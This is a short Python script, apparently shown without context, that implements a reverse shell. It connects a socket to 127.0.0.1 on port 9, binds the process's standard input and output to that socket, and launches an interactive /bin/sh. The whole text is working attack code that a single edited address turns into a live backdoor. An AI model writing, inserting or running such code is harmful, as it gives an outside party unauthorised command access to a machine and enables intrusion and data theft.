import os, socket, subprocess
s = socket.socket()
s.connect(('127.0.0.1', 9))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
subprocess.call(['/bin/sh', '-i'])
